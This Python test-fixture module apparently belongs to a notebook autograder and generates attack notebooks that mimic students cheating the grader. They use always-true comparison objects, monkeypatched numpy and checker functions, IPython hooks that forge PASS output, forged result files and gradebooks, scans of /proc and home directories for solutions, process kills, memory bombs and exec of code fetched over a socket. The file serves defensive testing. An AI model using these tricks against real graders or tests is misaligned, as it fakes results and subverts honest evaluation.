"""The instructor source and the attack submissions used by the grading tests.

Each attack is the untouched student copy of :func:`source_notebook` with some
cells rewritten the way a student who knows the trick would. The committed
``*.ipynb`` files in this folder are written from here
(``python tests/attacks/catalog.py``) and a test keeps them in sync.

Threats (DESIGN.md section 6) and the attack notebooks that exercise them:

==  =====================================  ==========================================
 1  edited / deleted check cells           t01_edit_checks
 2  stored fake outputs                    t02_fake_outputs
 3  __eq__ / __lt__ / __bool__ always True t03_always_equal
 4  monkeypatched allclose/isclose/checker t04_monkeypatch
 5  IPython transformers / event hooks     t05_ipython_hooks
 6  forged results (PASS, result files)    t06_forge_results
 7  reading solutions / hidden checks      t07_read_source
 8  os._exit, sys.exit, killing the parent t08_exit, t08_sys_exit, t08_kill
 9  infinite loop                          t09_infinite_loop
10  memory bomb                            t10_memory_bomb
11  network access                         t11_network
12  detecting grading mode                 t12_detect_grading
==  =====================================  ==========================================
"""
from __future__ import annotations

import copy
import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

HERE = Path(__file__).resolve().parent

SETUP = "import numpy as np\nfrom medlearn.checks import check\nimport attacks.demo_exercises  # registers demo.* (test fixture)"
SIGMOID = '''def sigmoid(z):
    """The logistic function, elementwise."""
    ### BEGIN SOLUTION
    return np.exp(-np.logaddexp(0.0, -z))
    ### END SOLUTION'''
STANDARDIZE = '''def standardize(x):
    """Scale each column of x to mean 0 and standard deviation 1."""
    ### BEGIN SOLUTION
    return (x - x.mean(axis=0)) / x.std(axis=0)
    ### END SOLUTION'''
HIDDEN = '### HIDDEN CHECKS\ncheck("demo.sigmoid", sigmoid)\ncheck("demo.standardize", standardize)'
IDS = ("setup", "intro", "ex-sigmoid", "check-sigmoid", "ex-standardize", "check-standardize", "hidden")


def source_notebook() -> nbformat.NotebookNode:
    """The instructor source: two exercises, two visible checks, two hidden checks (4 points)."""
    cells = [
        new_code_cell(SETUP),
        new_markdown_cell("## Exercise: the sigmoid and standardisation"),
        new_code_cell(SIGMOID),
        new_code_cell('check("demo.sigmoid", sigmoid)'),
        new_code_cell(STANDARDIZE),
        new_code_cell('check("demo.standardize", standardize)'),
        new_code_cell(HIDDEN),
    ]
    for cell, cid in zip(cells, IDS):
        cell.id = cid
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})


def student_notebook() -> nbformat.NotebookNode:
    from medlearn.grading.release import student_copy

    return student_copy(source_notebook(), name="source.ipynb")


WRONG_SIGMOID = "def sigmoid(z):\n    return z\n"
WRONG_STANDARDIZE = "def standardize(x):\n    return x\n"
GOOD_SIGMOID = "def sigmoid(z):\n    return 1.0 / (1.0 + np.exp(-z))\n"


def _edit(edits: dict, *, drop=(), outputs=None, extra=()) -> nbformat.NotebookNode:
    nb = copy.deepcopy(student_notebook())
    by_id = {c.id: c for c in nb.cells}
    for cid, source in edits.items():
        by_id[cid].source = source
    for cid, outs in (outputs or {}).items():
        by_id[cid].outputs = outs
        by_id[cid].execution_count = 1
    nb.cells = [c for c in nb.cells if c.id not in drop]
    for index, source in extra:
        nb.cells.insert(index, new_code_cell(source))
    return nb


ALWAYS_EQUAL = '''class Always:
    """Claims to equal, order and be truthy against anything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __len__(self): return 1
    def __abs__(self): return self
    def __sub__(self, other): return self
    __rsub__ = __sub__

def sigmoid(z):
    return Always()

def standardize(x):
    return Always()
'''

MONKEYPATCH = WRONG_SIGMOID + '''
import builtins, math
import numpy
import medlearn.checks.core as core
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *args, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
builtins.all = lambda *a, **k: True
core.judge_cases = lambda exercise, cases, outputs: core.CheckResult(exercise, True, "")
for ex in list(core._REGISTRY.values()):
    object.__setattr__(ex, "judge", lambda case, outputs: core.Verdict(True))
'''

IPYTHON_HOOKS = WRONG_SIGMOID + '''
ip = get_ipython()
def _blank(lines):
    text = "".join(lines)
    if "check(" in text:
        ids = [part.split('"')[1] for part in text.split("check(")[1:]]
        return [f'print("PASS {i}: forged")\\n' for i in ids]
    return lines
ip.input_transformers_post.append(_blank)
ip.events.register("pre_run_cell", lambda info: None)
'''

FORGE = WRONG_SIGMOID + '''
import json, os, glob
def check(exercise_id, answer, **kwargs):
    print(f"PASS {exercise_id}: forged")
    return True
# guess the result channel: write plausible result files everywhere we can reach
fake = [{"outputs": {}}] * 3
for folder in [os.getcwd(), *glob.glob(os.path.join(os.getcwd(), "*"))]:
    if os.path.isdir(folder):
        for k in range(8):
            try:
                with open(os.path.join(folder, f"check_{k}.json"), "w") as fh:
                    json.dump(fake, fh)
            except OSError:
                pass
gradescope = {"score": 100.0, "tests": [{"name": "all", "score": 100.0, "max_score": 100.0, "status": "passed"}]}
# where would the grader publish? its --out argument (the grader is an ancestor process), or ./*/results
targets = set(glob.glob(os.path.join(os.getcwd(), "*", "results"))) | {"{out}/results"}  # or a good guess
pid = os.getppid()
while pid > 1:
    try:
        args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    for i, arg in enumerate(args[:-1]):
        if arg == b"--out":
            targets.add(os.path.join(args[i + 1].decode(), "results"))
for target in targets:
    try:
        for name in ("t06_forge_results.json", "zz_forged.json"):
            with open(os.path.join(target, name), "w") as fh:
                json.dump(gradescope, fh)
        with open(os.path.join(target, "..", "gradebook.csv"), "w") as fh:
            fh.write("student,score,max_score,status,reason\\nt06_forge_results,4,4,graded,\\n")
    except OSError:
        pass
'''

READ_SOURCE = '''import glob, json, os
def _find_solutions():
    seen = []
    for cmd in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            seen += [a.decode() for a in open(cmd, "rb").read().split(b"\\0") if a.endswith(b".ipynb")]
        except OSError:
            pass
    for root in ["/tmp", os.path.expanduser("~"), os.getcwd()]:
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.count(os.sep) > 7:
                dirnames[:] = []
            seen += [os.path.join(dirpath, f) for f in filenames if f.endswith(".ipynb")]
    for path in seen:
        try:
            nb = json.load(open(path))
        except (OSError, ValueError):
            continue
        cells = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"] for c in nb.get("cells", [])]
        code = [c for c in cells if "BEGIN SOLUTION" in c and "def sigmoid" in c or "BEGIN SOLUTION" in c and "def standardize" in c]
        if len(code) == 2:
            return code
    return []
for _cell in _find_solutions():
    exec(_cell)
'''

EXIT = GOOD_SIGMOID, "def standardize(x):\n    return x\nimport os\nos._exit(0)\n"
SYS_EXIT = GOOD_SIGMOID + "import sys\nsys.exit(0)\n"
KILL = GOOD_SIGMOID + '''
import os, signal
for target in (os.getppid(), 0):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
'''
LOOP = GOOD_SIGMOID, "def standardize(x):\n    return x\nwhile True:\n    pass\n"
MEMORY = GOOD_SIGMOID, "hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))\n"
NETWORK = '''import socket
_code = ""
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        _code = s.makefile().read()
except OSError:
    pass
exec(_code)
'''
DETECT = '''import os, sys
graded = (
    "get_ipython" not in dir(__builtins__) and "get_ipython" not in globals()
    or any(k.startswith(("MEDLEARN_GRAD", "NBGRADER", "OTTER")) for k in os.environ)
    or "medlearn.grading.runner" in sys.modules
    or os.path.basename(os.getcwd()).startswith("medlearn-grade")
)
def sigmoid(z):
    if graded:
        # in grading mode, try every trick at once
        import numpy, medlearn.checks.core as core
        numpy.allclose = lambda *a, **k: True
        core.judge_cases = lambda e, c, o: core.CheckResult(e, True, "")
        return numpy.full(numpy.shape(z), 0.5)
    raise RuntimeError("env: " + ",".join(sorted(os.environ)))
'''

ENV_PROBE = '''import os
def sigmoid(z):
    raise RuntimeError("env: " + ",".join(sorted(os.environ)))
'''


def attacks(port: int = 0, out: str = "/nonexistent/grades") -> dict:
    """Name -> attack notebook. ``port``: the local server the network attack tries;
    ``out``: the output folder the forging attack writes to (as if it had guessed it)."""
    pass_out = lambda cid: [new_output("stream", name="stdout", text=f"PASS {cid}: forged\n")]
    return {
        "t01_edit_checks": _edit({"ex-sigmoid": WRONG_SIGMOID, "ex-standardize": WRONG_STANDARDIZE,
                                  "check-sigmoid": 'print("PASS demo.sigmoid: the logistic sigmoid")'},
                                 drop=("check-standardize",)),
        "t02_fake_outputs": _edit({}, outputs={"check-sigmoid": pass_out("demo.sigmoid"),
                                               "check-standardize": pass_out("demo.standardize")}),
        "t03_always_equal": _edit({"ex-sigmoid": ALWAYS_EQUAL, "ex-standardize": "pass\n"}),
        "t04_monkeypatch": _edit({"ex-sigmoid": MONKEYPATCH, "ex-standardize": WRONG_STANDARDIZE}),
        "t05_ipython_hooks": _edit({"ex-sigmoid": IPYTHON_HOOKS, "ex-standardize": WRONG_STANDARDIZE}),
        "t06_forge_results": _edit({"ex-sigmoid": FORGE.replace("{out}", out), "ex-standardize": WRONG_STANDARDIZE}),
        "t07_read_source": _edit({"ex-sigmoid": READ_SOURCE}),
        "t08_exit": _edit({"ex-sigmoid": EXIT[0], "ex-standardize": EXIT[1]}),
        "t08_sys_exit": _edit({"ex-sigmoid": SYS_EXIT}),
        "t08_kill": _edit({"ex-sigmoid": KILL}),
        "t09_infinite_loop": _edit({"ex-sigmoid": LOOP[0], "ex-standardize": LOOP[1]}),
        "t10_memory_bomb": _edit({"ex-sigmoid": MEMORY[0], "ex-standardize": MEMORY[1]}),
        "t11_network": _edit({"ex-sigmoid": NETWORK.replace("{port}", str(port))}),
        "t12_detect_grading": _edit({"ex-sigmoid": DETECT}),
    }


def write(folder: Path = HERE) -> list[Path]:
    """Write source.ipynb and every attack notebook (network port 0 = placeholder) into ``folder``."""
    written = [folder / "source.ipynb"]
    nbformat.write(source_notebook(), written[0])
    for name, nb in attacks().items():
        nbformat.write(nb, folder / f"{name}.ipynb")
        written.append(folder / f"{name}.ipynb")
    return written


if __name__ == "__main__":
    sys.path.insert(0, str(HERE.parent))
    for path in write():
        print(path)
